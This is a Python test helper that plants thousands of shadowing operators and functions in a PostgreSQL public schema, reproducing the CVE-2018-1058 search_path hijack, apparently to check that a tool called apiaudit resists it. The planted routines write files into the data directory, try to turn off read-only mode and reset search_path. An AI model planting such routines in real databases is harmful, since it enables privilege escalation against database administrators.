"""Plant hostile operators and functions in a database, as its unprivileged owner (CVE-2018-1058).

Every planted routine records each call by writing a file into the server's data directory
(``COPY ... TO`` a file there: allowed in a read-only transaction for a superuser caller, and it
survives the ROLLBACK), tries to switch read-only off for the session, and returns NULL. The matrix
is generated: every operator name below over every ordered pair of the types below (and prefix
forms), plus every pg_catalog overload of the functions apiaudit's SQL calls, re-declared in public
with its exact argument types and with each argument swapped for a "near" type that would be a
better match for an argument of that near type (oid for regclass, int2 for int4, name for text, ...).
"""

from __future__ import annotations

import itertools
import re
from pathlib import Path

import psycopg

MARK = "apiaudit_hijack_call_"
OPERATORS = ["=", "<>", "<", ">", "<=", ">=", "~~", "!~~", "~~*", "~", "!~", "~*", "!~*", "||", "@>", "<@",
             "&&", "+", "-", "*"]
PREFIX_OPERATORS = ["-", "~", "@", "!!"]
TYPES = ["oid", "int2", "int4", "int8", "numeric", "float8", "text", "varchar", "name", '"char"', "bool",
         "regclass", "regnamespace", "regproc", "int2vector", "oidvector", "text[]", "oid[]", "int2[]",
         "name[]", "timestamptz", "interval", "pg_node_tree"]
NEAR = {
    "regclass": ["oid", "int4"], "oid": ["int4", "int8", "regclass"], "int4": ["int2", "int8", "oid", "numeric"],
    "int8": ["int4", "numeric"], "int2": ["int4"], "text": ["name", "varchar", '"char"'], "name": ["text"],
    "anyarray": ["int2[]", "oid[]", "text[]", "name[]", "int2vector", "oidvector"], "anyelement": ["int4", "text"],
    "pg_node_tree": ["text"], "timestamptz": ["timestamp"], "float8": ["numeric", "float4"], "bool": ["int4"],
}
# The functions apiaudit's own SQL calls, and a few the brief names (shadowing them must not work).
FUNCTIONS = ["lower", "upper", "array_to_string", "format", "quote_ident", "quote_literal", "pg_get_indexdef",
             "pg_get_expr", "format_type", "current_setting", "current_database", "pg_backend_pid", "now",
             "unnest", "cardinality", "split_part", "pg_is_in_recovery", "pg_partition_tree", "coalesce",
             "has_table_privilege", "has_schema_privilege", "has_database_privilege", "pg_relation_size",
             "array_length", "string_agg", "date_part", "textregexeq", "pg_get_viewdef", "regexp_replace",
             "substring", "length", "concat", "trim", "btrim", "abs", "greatest", "round", "count", "sum", "max"]


def _tname(t: str) -> str:
    return re.sub(r"[^a-z0-9]", "", t.replace("[]", "arr"))


def _recorder(kind: str) -> str:
    """plpgsql body that records the call (file in the data directory) and returns NULL."""
    return f"""
BEGIN
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT 1) TO %L', pg_catalog.concat(
      pg_catalog.current_setting('data_directory'), '/{MARK}{kind}_', pg_catalog.pg_backend_pid(), '_',
      pg_catalog.md5(pg_catalog.random()::pg_catalog.text)));
  EXCEPTION WHEN others THEN NULL;  -- a non-superuser caller cannot write files: RAISE below still logs
  END;
  RAISE WARNING '{MARK}{kind}';
  PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false);
  PERFORM pg_catalog.set_config('search_path', 'public, pg_catalog', false);
  RETURN NULL;
END"""


def operator_sql() -> tuple[list[str], int]:
    out: list[str] = []
    count = 0
    for left, right in itertools.product(TYPES, TYPES):
        fb = f"public.hj_b_{_tname(left)}_{_tname(right)}"
        out.append(f"CREATE FUNCTION {fb}({left}, {right}) RETURNS bool LANGUAGE plpgsql AS $f${_recorder('op')}$f$;")
        fl = f"public.hj_l_{_tname(left)}_{_tname(right)}"
        out.append(f"CREATE FUNCTION {fl}({left}, {right}) RETURNS {left} LANGUAGE plpgsql AS $f${_recorder('op')}$f$;")
        for op in OPERATORS:
            fn = fb if op in ("=", "<>", "<", ">", "<=", ">=", "~~", "!~~", "~~*", "~", "!~", "~*", "!~*", "@>",
                              "<@", "&&") else fl
            out.append(f"CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {fn});")
            count += 1
    for t in TYPES:
        fp = f"public.hj_p_{_tname(t)}"
        out.append(f"CREATE FUNCTION {fp}({t}) RETURNS {t} LANGUAGE plpgsql AS $f${_recorder('op')}$f$;")
        for op in PREFIX_OPERATORS:
            out.append(f"CREATE OPERATOR public.{op} (RIGHTARG = {t}, FUNCTION = {fp});")
            count += 1
    return out, count


def function_sql(conn: psycopg.Connection) -> tuple[list[str], int]:
    """public.<name>(...) for every non-variadic, non-aggregate pg_catalog overload of FUNCTIONS,
    exact and with each argument replaced by a near type."""
    rows = conn.execute(
        "SELECT p.proname, ARRAY(SELECT pg_catalog.format_type(t, NULL) FROM unnest(p.proargtypes) t), "
        "pg_catalog.format_type(p.prorettype, NULL), p.proretset "
        "FROM pg_catalog.pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace "
        "AND p.proname = ANY(%s) AND p.prokind = 'f' AND p.provariadic = 0 AND p.pronargs <= 3",
        (FUNCTIONS,),
    ).fetchall()
    seen: set[tuple[str, tuple[str, ...]]] = set()
    out: list[str] = []
    for name, args, ret, retset in rows:
        if any(a in ('"any"', "cstring", "internal", "anycompatible", "anycompatiblearray") for a in args):
            continue
        variants = [tuple(args)]
        for i, a in enumerate(args):
            for near in NEAR.get(a, []):
                variants.append((*args[:i], near, *args[i + 1:]))
        for sig in variants:
            if (name, sig) in seen or any(s.startswith("any") for s in sig):
                continue
            seen.add((name, sig))
            rtype = ret if not ret.startswith("any") and ret not in ("record", "void", "trigger") else "text"
            rset = "SETOF " if retset else ""
            body = _recorder("fn_" + name) if not retset else _recorder("fn_" + name).replace("RETURN NULL", "RETURN")
            out.append(
                f"CREATE FUNCTION public.{_quote(name)}({', '.join(sig)}) RETURNS {rset}{rtype} LANGUAGE plpgsql "
                f"AS $f${body}$f$;"
            )
    for name in ("lower", "format", "quote_ident", "array_to_string"):  # the brief's examples, by hand too
        sig = {"lower": "varchar", "format": "varchar", "quote_ident": "name", "array_to_string": "int2[], text"}[name]
        if (name, tuple(sig.split(", "))) not in seen:
            seen.add((name, tuple(sig.split(", "))))
            body = _recorder("fn_" + name)
            out.append(f"CREATE FUNCTION public.{name}({sig}) RETURNS text LANGUAGE plpgsql AS $f${body}$f$;")
    return out, len(seen)


def _quote(name: str) -> str:
    return name if re.fullmatch(r"[a-z_][a-z0-9_]*", name) else '"' + name + '"'


def plant(dsn: str, role: str) -> dict[str, int]:
    """Create the whole matrix as ``role`` (the database owner); returns how many operators and functions.

    Connects as the superuser only to keep the ~11,000 statements out of the shared test server's log
    (other tests read it), then becomes the owner: everything is created by the unprivileged role."""
    with psycopg.connect(dsn, autocommit=True) as conn:
        conn.execute("SET log_statement = 'none'")
        conn.execute("SET log_min_messages = 'error'")
        conn.execute(f'SET ROLE "{role}"')
        ops, n_ops = operator_sql()
        fns, n_fns = function_sql(conn)
        failed = 0
        todo = ops + fns
        for start in range(0, len(todo), 500):  # batches (one huge implicit transaction is quadratic)
            batch = todo[start:start + 500]
            try:
                conn.execute("\n".join(batch))
            except psycopg.Error:  # statement by statement, to see which ones the server refuses
                for stmt in batch:
                    try:
                        conn.execute(stmt)
                    except psycopg.errors.DuplicateFunction:
                        pass
                    except psycopg.Error:
                        failed += 1
        created_ops = conn.execute(
            "SELECT pg_catalog.count(*) FROM pg_catalog.pg_operator "
            "WHERE oprnamespace OPERATOR(pg_catalog.=) 'public'::pg_catalog.regnamespace::pg_catalog.oid"
        ).fetchone()[0]
        created_fns = conn.execute(
            "SELECT pg_catalog.count(*) FROM pg_catalog.pg_proc "
            "WHERE pronamespace OPERATOR(pg_catalog.=) 'public'::pg_catalog.regnamespace::pg_catalog.oid "
            "AND proname OPERATOR(pg_catalog.!~~) 'hj\\_%'"
        ).fetchone()[0]
    return {"operators": int(created_ops), "functions": int(created_fns), "failed": failed,
            "operators_tried": n_ops, "functions_tried": n_fns}


def calls(datadir: Path) -> list[str]:
    """Names of the call records the planted routines wrote (the test runs as root or as postgres)."""
    return sorted(p.name for p in datadir.glob(f"{MARK}*"))
